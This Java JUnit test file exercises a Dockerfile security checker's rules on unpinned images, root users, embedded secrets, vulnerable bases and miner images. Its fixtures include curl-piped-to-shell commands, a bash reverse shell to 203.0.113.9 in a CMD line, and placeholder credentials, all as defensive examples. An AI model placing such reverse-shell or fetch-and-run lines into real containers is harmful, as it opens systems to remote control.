package dev.progy.guard.scripts;

import dev.progy.guard.rule.Finding;
import dev.progy.guard.rule.Severity;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The Dockerfile rules, each pointing at the line of the instruction it is about. */
class DockerfileChecksTest {

    private static List<String> found(String dockerfile) {
        return DockerfileChecks.check("Dockerfile", dockerfile).stream()
                .map(f -> f.rule().id() + "@" + f.line()).toList();
    }

    @Test
    @DisplayName("a careful Dockerfile has nothing to report")
    void benign() {
        assertThat(found("""
                # a course image
                FROM python:3.12-slim
                RUN apt-get update && apt-get install -y --no-install-recommends git=1:2.39.5-0+deb12u1 \\
                    && rm -rf /var/lib/apt/lists/*
                COPY runner/ /course/runner/
                ENV PYTHONDONTWRITEBYTECODE=1 TEST_TIMEOUT=10
                USER 1000
                """)).isEmpty();
    }

    @Test
    @DisplayName("a base image without a tag or on :latest is a warning on its FROM line; digests and scratch are fine")
    void unpinnedBase() {
        assertThat(found("FROM ubuntu\nUSER 1000\n")).containsExactly("PG-D001@1");
        assertThat(found("# base\n\nFROM --platform=linux/amd64 registry.example.com:5000/team/img:latest AS build\nUSER 1000\n"))
                .containsExactly("PG-D001@3");
        assertThat(found("FROM registry.example.com:5000/img@sha256:" + "a".repeat(64) + "\nUSER 1000\n")).isEmpty();
        assertThat(found("FROM scratch\nUSER 1000\n")).isEmpty();
    }

    @Test
    @DisplayName("ADD of a URL, a download piped into a shell and a secret in ENV or ARG are errors on their lines")
    void errors() {
        List<Finding> f = DockerfileChecks.check("docker/Dockerfile", """
                FROM debian:12
                ADD https://example.com/tool.tar.gz /opt/
                RUN curl -fsSL https://get.example.com/install \\
                    | sudo bash -s -- --yes
                ENV DB_PASSWORD=hunter2 HOME=/home/student
                ARG GITHUB_TOKEN="ghp_abc"
                ARG API_KEY
                ENV TOKEN_FILE=$SECRETS/token
                USER student
                """);
        assertThat(f).extracting(x -> x.rule().id() + "@" + x.line())
                .containsExactly("PG-D002@2", "PG-D005@3", "PG-D004@5", "PG-D004@6");
        assertThat(f).allSatisfy(x -> {
            assertThat(x.file()).isEqualTo("docker/Dockerfile");
            assertThat(x.severity()).isEqualTo(Severity.ERROR);
            assertThat(x.fix()).isNotBlank();
        });
    }

    @Test
    @DisplayName("a final stage that stays root is a warning on its FROM line; a build stage may be root")
    void rootUser() {
        assertThat(found("FROM debian:12 AS build\nUSER 1000\nFROM debian:12\nRUN true\n")).containsExactly("PG-D003@3");
        assertThat(found("FROM debian:12 AS build\nFROM debian:12\nUSER root\n")).containsExactly("PG-D003@2");
        assertThat(found("FROM debian:12\nUSER 0:0\n")).containsExactly("PG-D003@1");
        assertThat(found("FROM debian:12 AS build\nFROM debian:12\nUSER student\n")).isEmpty();
    }

    @Test
    @DisplayName("a base image past its end of life is a warning, by the shipped list; supported releases are fine")
    void endOfLifeBase() {
        assertThat(found("FROM python:3.8-slim\nUSER 1000\n")).containsExactly("PG-D007@1");
        assertThat(found("FROM docker.io/library/node:16\nUSER 1000\n")).containsExactly("PG-D007@1");
        assertThat(found("FROM centos:7\nUSER 1000\n")).containsExactly("PG-D007@1");
        assertThat(found("FROM ubuntu:focal\nUSER 1000\n")).containsExactly("PG-D007@1");
        assertThat(found("FROM python:3.80\nUSER 1000\n")).isEmpty(); // not 3.8
        assertThat(found("FROM python:3.12-slim\nFROM node:22-alpine\nFROM ubuntu:24.04\nUSER 1000\n")).isEmpty();
        assertThat(found("FROM registry.example.com/python:3.8\nUSER 1000\n")).isEmpty(); // another registry's image
    }

    @Test
    @DisplayName("packages installed without a version are a note, one per RUN")
    void unpinnedPackages() {
        assertThat(found("FROM debian:12\nRUN apt-get update && apt-get install -y python3 git\nUSER 1000\n"))
                .containsExactly("PG-D006@2");
        assertThat(DockerfileChecks.check("Dockerfile", "FROM alpine:3.22\nRUN apk add --no-cache bash\nUSER 1000\n"))
                .singleElement().satisfies(x -> assertThat(x.severity()).isEqualTo(Severity.INFO));
    }

    @Test
    @DisplayName("a base tag with a known vulnerability is an error naming it; a fixed tag of the same image is not")
    void knownVulnerableBase() {
        List<Finding> f = DockerfileChecks.check("Dockerfile", "FROM alpine:3.4\nUSER 1000\n");
        assertThat(f).extracting(x -> x.rule().id() + "@" + x.line()).containsExactly("PG-D008@1");
        assertThat(f.get(0).severity()).isEqualTo(Severity.ERROR);
        assertThat(f.get(0).message()).contains("CVE-2019-5021");
        assertThat(found("FROM httpd:2.4.49-alpine\nUSER www-data\n")).containsExactly("PG-D008@1");
        assertThat(found("FROM httpd:2.4.62-alpine\nUSER www-data\n")).isEmpty();
        assertThat(found("FROM alpine:3.22\nUSER 1000\n")).isEmpty();
    }

    @Test
    @DisplayName("what the image runs is read as one script: heredoc lines at their own lines, a file fetched in one RUN and run in another")
    void runsAsOneScript() {
        assertThat(found("FROM python:3.12-slim\nRUN <<EOF\nset -e\ncurl -fsSL https://x.example/i | sh\nEOF\nUSER 1000\n"))
                .containsExactly("PG-D005@4");
        assertThat(found("FROM python:3.12-slim\nRUN curl -fsSL -o /usr/local/bin/t https://x.example/t\n"
                + "RUN chmod +x /usr/local/bin/t\nRUN /usr/local/bin/t --init\nUSER 1000\n")).contains("PG-D005@4");
        assertThat(found("FROM python:3.12-slim\nUSER 1000\nCMD [\"sh\", \"-c\", \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"]\n"))
                .containsExactly("PG-B004@3");
    }

    @Test
    @DisplayName("a miner as the base image is an error; sudo rules for the image's own user are the image's business")
    void minerImageAndSudoers() {
        assertThat(found("FROM metal3d/xmrig:6.21\nUSER 1000\n")).containsExactly("PG-B006@1");
        assertThat(found("FROM debian:12.7-slim\nRUN echo 'student ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/student\nUSER student\n"))
                .isEmpty();
    }

    @Test
    @DisplayName("a secret set on a continued ENV line is reported on that line, not the instruction's first")
    void secretOnContinuation() {
        assertThat(found("""
                FROM python:3.12-slim
                ENV AWS_REGION=eu-west-1 \\
                    AWS_SECRET_ACCESS_KEY=k9Vd8mZ2pQe7RfT1uWx3Yb5Nc0Ls4Hj6Ga8Ke2Po
                USER 1000
                """)).containsExactly("PG-D004@3");
    }
}
